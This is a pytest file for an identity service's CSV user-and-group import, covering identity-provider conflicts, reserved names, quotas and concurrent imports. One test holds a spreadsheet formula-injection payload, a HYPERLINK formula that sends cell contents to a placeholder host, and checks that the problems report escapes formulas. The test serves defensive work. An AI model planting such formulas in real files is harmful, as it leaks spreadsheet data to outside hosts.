"""What an import makes of each line: all that it names, or nothing; once, whoever else makes people meanwhile."""

from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

import pytest

from gatepost import app
from gatepost.core.directory import groups, store, users
from gatepost.core.directory.model import Group, GroupAttributes, User, UserAttributes
from gatepost.core.provisioning import tokens
from gatepost.kit.paging import PageRequest, WindowRequest
from tests.doors.console.conftest import Administrator, Organisation

PAGE = "/console/import"
HEAD = "user_name,email,given_name,family_name,groups\n"
AT_ONCE = 250


def begin(administrator: Administrator, content: str) -> str:
    """Upload a file and start its import; return its page. Its jobs have not run yet."""
    administrator.get(PAGE)
    page: str = administrator.upload(PAGE, administrator.fields(), content.encode()).headers["Location"]
    administrator.get(page)
    assert administrator.submit({}, at=f"{page}/start", form=f".//form[@action='{page}/start']").status_code == 303
    return page


def run(organisation: Organisation, administrator: Administrator, *lines: str) -> str:
    """Import lines and return what the page says of it."""
    page = begin(administrator, HEAD + "\n".join(lines))
    organisation.work()
    administrator.get(page)
    return administrator.text()


def everybody(organisation: Organisation) -> list[User]:
    """Return every user but the administrator."""
    found = organisation.write(lambda call: users.list_all(call, organisation.store_id, PageRequest(2000)))
    return [user for user in found.items if user.user_name != "admin"]


def group_names(organisation: Organisation) -> list[str]:
    found = organisation.write(lambda call: groups.browse(call, organisation.store_id, "", WindowRequest(100)))
    return [group.display_name for group in found.items]


def members(organisation: Organisation, name: str) -> list[str]:
    group = organisation.write(lambda call: groups.get_by_name(call, organisation.store_id, name))
    request = WindowRequest(1000)
    found = organisation.write(lambda call: groups.list_members(call, organisation.store_id, group.group_id, request))
    return [member.user.user_name for member in found.items]


@pytest.fixture
def maria(organisation: Organisation) -> User:
    """Somebody whom an identity provider has sent, and whom it keeps in step."""
    tenant = organisation.write(lambda call: tokens.create(call, organisation.store_id))[0]
    attributes = UserAttributes.person(
        user_name="Maria", given_name="Maria", family_name="Okonkwo", email="maria@example.com"
    )
    return organisation.write(
        lambda call: users.create(
            call,
            identity_store_id=organisation.store_id,
            attributes=attributes,
            invite=False,
            provisioned_by=tenant.tenant_id,
        )
    )


@pytest.fixture
def engineers(organisation: Organisation, maria: User) -> Group:
    """A group that the same identity provider has sent."""
    assert maria.provisioned_by is not None
    return organisation.write(
        lambda call: groups.create(
            call,
            identity_store_id=organisation.store_id,
            attributes=GroupAttributes("Engineers"),
            provisioned_by=maria.provisioned_by,
        )
    )


def test_whom_an_identity_provider_has_sent_stays_as_they_are(
    organisation: Organisation, administrator: Administrator, maria: User
) -> None:
    told = run(
        organisation,
        administrator,
        "maria,other@example.com,Mary,Other,Sales",
        "mary,MARIA@example.com,Mary,Other,Sales",
    )
    assert "0 people were added" in told
    assert "Line 2: There is a user of this name already." in told
    assert "Line 3: Somebody has this e-mail address already." in told
    assert everybody(organisation) == [maria]
    assert group_names(organisation) == []


def test_nobody_joins_a_group_that_an_identity_provider_keeps_in_step(
    organisation: Organisation, administrator: Administrator, engineers: Group
) -> None:
    told = run(organisation, administrator, "a,a@example.com,A,B,Sales|engineers", "b,b@example.com,A,B,Sales")
    assert "1 person was added" in told
    assert "Line 2: Your identity provider keeps the group engineers in step: add people to it there." in told
    assert {user.user_name for user in everybody(organisation)} == {"Maria", "b"}
    assert members(organisation, engineers.display_name) == []
    assert members(organisation, "Sales") == ["b"]


def test_a_line_with_a_group_that_cannot_be_makes_nobody_and_no_other_group(
    organisation: Organisation, administrator: Administrator
) -> None:
    told = run(organisation, administrator, "a,a@example.com,A,B,New|Administrator", "b,b@example.com,A,B,Sales")
    assert "1 person was added" in told
    assert "Line 2: Administrator is a reserved name" in told
    assert [user.user_name for user in everybody(organisation)] == ["b"]
    assert group_names(organisation) == ["Sales"]


def test_a_group_named_twice_in_other_case_is_joined_once(
    organisation: Organisation, administrator: Administrator
) -> None:
    assert "2 people were added" in run(
        organisation, administrator, "a,a@example.com,A,B,Sales|SALES", "b,b@example.com,A,B,sales|Sales"
    )
    assert members(organisation, "Sales") == ["a", "b"]
    [group] = group_names(organisation)
    assert group == "Sales"


def test_what_a_quota_has_no_room_for_is_told_and_not_begun(
    organisation: Organisation, administrator: Administrator
) -> None:
    settings = organisation.runtime.settings.model_copy(
        update={"quota_users": 3, "quota_groups": 1, "quota_groups_of_user": 2}
    )
    organisation.runtime = replace(organisation.runtime, settings=settings)
    told = run(
        organisation,
        administrator,
        "a,a@example.com,A,B,One|Two",
        "b,b@example.com,A,B,One",
        "c,c@example.com,A,B,Two",
        "d,d@example.com,A,B,One|Two|Three",
        "e,e@example.com,A,B,",
        "f,f@example.com,A,B,",
    )
    assert "2 people were added" in told
    assert "Line 2: The request would exceed the quota of 1 groups." in told
    assert "Line 4: The request would exceed the quota of 1 groups." in told
    assert "Line 5: The request would exceed the quota of 2 groups that one user is in." in told
    assert "Line 7: The request would exceed the quota of 3 users." in told
    assert {user.user_name for user in everybody(organisation)} == {"b", "e"}
    assert group_names(organisation) == ["One"]


def test_a_formula_is_a_name_like_others_and_is_none_in_the_file_of_problems(
    organisation: Organisation, administrator: Administrator
) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1)'
    lines = ['a,a@example.com,"=HYPERLINK(""http://x.example/?""&A1)",@B,', "b,=1+1,A,B,"]
    page = begin(administrator, HEAD + "\n".join(lines))
    organisation.work()
    [user] = everybody(organisation)
    assert (user.attributes.name.given_name, user.attributes.name.family_name) == (formula, "@B")
    report = administrator.get(f"{page}/problems").get_data(as_text=True).splitlines()
    assert report[1:] == ["3,'=1+1 is not an e-mail address."]


def test_two_imports_of_one_file_at_once_make_everybody_once(
    organisation: Organisation, administrator: Administrator
) -> None:
    content = HEAD + "\n".join(f"u{each},u{each}@example.com,A,B,G{each % 7}|H{each % 3}" for each in range(AT_ONCE))
    pages = [begin(administrator, content) for _ in range(2)]
    with ThreadPoolExecutor(2) as pool:
        for server in [pool.submit(app.make_runner(organisation.runtime).drain) for _ in range(2)]:
            server.result()
    for _ in range(5):  # what stood in the other's way is tried again, a while later each time
        organisation.clock.advance(minutes=15)
        organisation.work()
    made = 0
    for page in pages:
        administrator.get(page)
        made += int(administrator.text().partition(" people were added")[0].rpartition("Imported")[2])
    assert made == AT_ONCE
    assert Counter(user.user_name for user in everybody(organisation)) == Counter(f"u{n}" for n in range(AT_ONCE))
    assert len(organisation.events("CreateUser")) == AT_ONCE
    assert len(group_names(organisation)) == 10
    counted = organisation.runtime.database.read(
        lambda tx: [
            len(each) for each in store.groups_of(tx, [user.user_id for user in everybody(organisation)]).values()
        ]
    )
    assert counted == [2] * AT_ONCE
